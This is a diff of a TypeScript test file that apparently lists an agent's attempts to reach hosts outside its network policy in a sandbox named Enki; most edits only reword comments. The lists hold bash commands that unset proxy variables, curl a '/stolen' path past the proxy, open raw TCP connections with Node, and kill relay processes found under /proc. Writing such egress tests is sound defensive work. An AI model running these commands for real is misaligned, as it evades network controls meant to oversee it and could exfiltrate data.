@@ -1,9 +1,9 @@
-/** Ports of the machine's own servers that stand for foreign hosts, and the one host that the policy allows. */
+/** Ports of the machine's own servers, which represent foreign hosts, and the only host in the policy. */
 export type NetworkPorts = {
   readonly foreign: number;
-  /** On IPv6. */
+  /** A port on IPv6. */
   readonly foreign6: number;
-  /** UDP, as of a name server. */
+  /** A UDP port, like a name server's. */
   readonly names: number;
   readonly allowed: number;
 };
@@ -11,11 +11,13 @@ export type NetworkPorts = {
 /** Removes every variable by which a program finds the proxy. */
 const UNSET = "unset http_proxy https_proxy all_proxy HTTP_PROXY HTTPS_PROXY ALL_PROXY NODE_USE_ENV_PROXY YARN_HTTP_PROXY YARN_HTTPS_PROXY";
 
-/** A program for Node that sends this text to a port of an address. */
+/** Returns a Node program that sends this text to a port of an address. */
 const sendByNode = (host: string, port: number): string =>
   `"${process.execPath}" -e 'require("node:net").connect(${port}, "${host}").on("error", () => {}).end("GET /stolen HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n")'`;
 
-/** What an agent tries to reach a host that its policy does not allow, as bash scripts. Each is stopped where its traffic is cut off. */
+/**
+ * Lists an agent's attempts to reach a host outside of its policy, as bash scripts. Every attempt stops where the agent's traffic is cut off.
+ */
 export const listNetworkAttempts = ({ foreign, foreign6, names, allowed }: NetworkPorts): Readonly<Record<string, string>> => ({
   "curl without its proxy": `curl -s -m 2 --noproxy '*' http://127.0.0.1:${foreign}/stolen`,
   "curl without the variables": `${UNSET}; curl -s -m 2 http://127.0.0.1:${foreign}/stolen`,
@@ -38,7 +40,7 @@ export const listNetworkAttempts = ({ foreign, foreign6, names, allowed }: Netwo
   "a bare TCP connection after killing what relays": `for at in /proc/[0-9]*; do grep -qs 'net[w]ork-' $at/cmdline && kill -9 \${at#/proc/}; done; ${sendByNode("127.0.0.1", foreign)}`,
 });
 
-/** Ways through Enki's own proxy: they are refused on every machine. */
+/** Lists ways through Enki's own proxy, which every machine refuses. */
 export const listProxyAttempts = ({ foreign, foreign6 }: NetworkPorts): Readonly<Record<string, string>> => ({
   "the proxy, with a request": `curl -s -m 2 --noproxy '' -x "$http_proxy" http://127.0.0.1:${foreign}/stolen`,
   "the proxy, with a tunnel": `curl -s -m 2 --noproxy '' -p -x "$http_proxy" http://127.0.0.1:${foreign}/stolen`,
